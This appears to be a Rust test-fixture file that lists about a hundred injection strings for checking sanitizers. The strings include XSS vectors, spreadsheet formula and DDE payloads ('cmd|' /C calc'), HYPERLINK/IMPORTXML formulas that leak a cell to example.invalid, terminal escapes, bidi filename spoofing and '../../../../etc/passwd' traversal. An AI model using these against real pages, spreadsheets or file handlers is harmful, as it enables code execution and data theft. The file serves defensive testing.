//! Texts that try to get out of a text: into markup, formulas, terminals, other directions, other folders.

/// What each of them would do if it worked is told by its first line of comment.
pub const PAYLOADS: [&str; 96] = [
    // Elements that run something.
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script/src=data:,window.hit=1></script>",
    "<script\u{c}>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=\"x\" onerror=\"window.hit=1\">",
    "<img/src/onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "</desc><script>window.hit=1</script>",
    "</text></svg><img src=x onerror=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext></math><img src=x onerror=window.hit=1>",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\">",
    "<iframe src=javascript:window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<marquee onstart=window.hit=1>",
    "<meta http-equiv=refresh content=\"0;url=data:,x\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<base href=//example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<form action=//example.invalid><button>x",
    "<a href=javascript:window.hit=1>x</a>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    // Ways out of an attribute, a comment, a style, a list.
    "\" onmouseover=window.hit=1 x=\"",
    "' onmouseover=window.hit=1 x='",
    "\"><script>window.hit=1</script>",
    "'><script>window.hit=1</script>",
    "x` onerror=window.hit=1",
    "--><script>window.hit=1</script><!--",
    "<!--",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version=\"1.0\"?>",
    "}</style><style>*{display:none}",
    "\\\"; } body { display: none } @page { content: \"",
    "url(//example.invalid/x)",
    "</li></ul></dl></table></section></main></body></html>",
    "</p><table><caption>",
    // Characters that a page writes in another way.
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "&amp;&copy;&notanentity;",
    "&",
    "<",
    "\u{ff1c}script\u{ff1e}window.hit=1\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "javascript:window.hit=1",
    // Formulas.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "\",=1+1,\"",
    "a\n=1+1\n\"b",
    "_x003D_1+1",
    // Terminals, directions, characters that take no room, and what is no character.
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{202e}txt.exe",
    "\u{2066}a\u{2069}\u{200f}b",
    "a\u{2028}b\u{2029}c\u{85}d",
    "\u{e0041}\u{ffff}\u{fffe}\u{fdd0}",
    "\u{8}\u{7f}\u{1}",
    // Folders and very long texts.
    "../../../../etc/passwd",
    "C:\\CON\\..\\NUL",
];

/// A text that does nothing, of the kind that all of these pretend to be.
pub const HARMLESS: &str = "harmless";

#[test]
fn there_are_enough_and_no_two_are_the_same() {
    let mut sorted = PAYLOADS.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted.len(), PAYLOADS.len());
    assert!(PAYLOADS.len() >= 80);
}
